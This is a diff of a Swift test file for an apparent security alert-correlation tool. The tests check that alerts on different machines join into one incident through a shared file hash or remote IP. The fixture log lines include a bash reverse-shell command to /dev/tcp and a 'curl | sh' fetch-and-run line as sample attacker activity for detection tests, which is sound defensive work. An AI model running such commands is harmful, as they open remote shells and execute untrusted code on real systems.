@@ -97,26 +97,32 @@ func sshFailures(count: Int, interval: Int, from address: String = "203.0.113.5"
         #expect(grouped.severity == .high)
     }
 
-    @Test(arguments: TestBackend.available) func aSharedFileHashJoinsMachines(on backend: TestBackend) throws {
+    /// A file hash, as an antivirus event's `extra`.
+    static let sharedHash = #","sha256":"aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999""#
+
+    /// Imports `lines` with a burst window too short for the same rule to join machines, so
+    /// only a shared indicator can.
+    func importJoiningByIndicator(_ lines: [String], on backend: TestBackend) throws -> TestStore {
         var policy = IncidentPolicy()
         policy.burstWindow = .seconds(1)
-        let hash = #","sha256":"aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999""#
-        let imported = try importJSON([
-            antivirus("web-01", "2026-03-03T10:00:00Z", extra: hash),
-            antivirus("db-01", "2026-03-03T15:00:00Z", signature: "Unix.Other", extra: hash),
-        ], policy: policy, on: backend)
+        return try importJSON(lines, policy: policy, on: backend)
+    }
+
+    @Test(arguments: TestBackend.available) func aSharedFileHashJoinsMachines(on backend: TestBackend) throws {
+        let imported = try importJoiningByIndicator([
+            antivirus("web-01", "2026-03-03T10:00:00Z", extra: Self.sharedHash),
+            antivirus("db-01", "2026-03-03T15:00:00Z", signature: "Unix.Other", extra: Self.sharedHash),
+        ], on: backend)
         let incidents = try imported.store.incidents(status: nil, minimumSeverity: nil, limit: 100)
         #expect(incidents.count == 1)
         #expect(incidents.first?.reason.contains("db-01 shares sha256 aaaabbbb") == true)
     }
 
     @Test(arguments: TestBackend.available) func aSharedRemoteAddressJoinsMachines(on backend: TestBackend) throws {
-        var policy = IncidentPolicy()
-        policy.burstWindow = .seconds(1)
-        let imported = try importJSON([
+        let imported = try importJoiningByIndicator([
             #"{"@timestamp":"2026-03-03T10:00:00Z","hostname":"web-01","logsource":{"category":"process_creation"},"CommandLine":"bash -i >& /dev/tcp/1.2.3.4/80 0>&1","DestinationIp":"198.51.100.7"}"#,
             #"{"@timestamp":"2026-03-03T12:00:00Z","hostname":"db-01","logsource":{"category":"process_creation"},"CommandLine":"curl http://x | sh","DestinationIp":"198.51.100.7"}"#,
-        ], policy: policy, on: backend)
+        ], on: backend)
         #expect(try imported.store.incidents(status: nil, minimumSeverity: nil, limit: 100).first?.reason.contains("shares ip 198.51.100.7") == true)
     }
 
@@ -125,14 +131,11 @@ func sshFailures(count: Int, interval: Int, from address: String = "203.0.113.5"
     /// before, the stores took whichever row their query plan met first (SQLite the earlier
     /// incident, PostgreSQL whichever its statistics of the moment led to).
     @Test(arguments: TestBackend.available) func anAlertSharingAnIndicatorWithTwoIncidentsJoinsTheLatest(on backend: TestBackend) throws {
-        var policy = IncidentPolicy()
-        policy.burstWindow = .seconds(1)
-        let hash = #","sha256":"aaaabbbbccccddddeeeeffff0000111122223333444455556666777788889999""#
-        let imported = try importJSON([
-            antivirus("web-01", "2026-03-03T10:00:00Z", extra: hash),
-            antivirus("db-01", "2026-03-04T10:00:01Z", signature: "Unix.Other", extra: hash),
-            antivirus("app-01", "2026-03-04T10:00:00Z", signature: "Unix.Third", extra: hash),
-        ], policy: policy, on: backend)
+        let imported = try importJoiningByIndicator([
+            antivirus("web-01", "2026-03-03T10:00:00Z", extra: Self.sharedHash),
+            antivirus("db-01", "2026-03-04T10:00:01Z", signature: "Unix.Other", extra: Self.sharedHash),
+            antivirus("app-01", "2026-03-04T10:00:00Z", signature: "Unix.Third", extra: Self.sharedHash),
+        ], on: backend)
         let incidents = try imported.store.incidents(status: nil, minimumSeverity: nil, limit: 100)
         #expect(incidents.map(\.alertCount).sorted() == [1, 2])
         let joined = try #require(incidents.first { $0.alertCount == 2 })
